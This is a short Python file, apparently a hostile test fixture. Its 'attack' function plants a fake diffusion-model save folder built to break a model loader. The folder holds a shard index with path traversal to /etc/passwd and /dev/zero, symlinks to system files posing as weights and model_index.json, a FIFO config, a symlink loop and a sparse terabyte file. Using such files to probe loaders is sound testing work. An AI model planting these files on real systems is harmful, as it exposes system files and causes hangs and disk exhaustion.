"""Save weights as links, holes and indices that point out of the folder."""

import contextlib
import json
import os
import tempfile
from pathlib import Path

CLASS = "pickles"
AIM = "make_pipeline"
HOME = Path(tempfile.gettempdir())
SHARDS = {"weight_map": {"a": "../../../../etc/passwd", "b": "/dev/zero"}, "metadata": {}}


def attack(name, /, *args, **kwargs):
    paths = [Path(value) for value in args if isinstance(value, (str, Path))]
    paths = [path for path in paths if path.is_absolute()]
    for folder in (*paths, HOME, HOME / "saved"):
        with contextlib.suppress(OSError):
            unet = folder / "unet"
            unet.mkdir(parents=True, exist_ok=True)
            index = unet / "diffusion_pytorch_model.safetensors.index.json"
            index.write_text(json.dumps(SHARDS))
            os.symlink("/dev/zero", unet / "diffusion_pytorch_model.safetensors")
            os.symlink("/etc/passwd", folder / "model_index.json")
            os.mkfifo(unet / "config.json")
            os.symlink("..", folder / "loop")
            with (folder / "hole.safetensors").open("wb") as file:
                file.truncate(2**40)
    return None
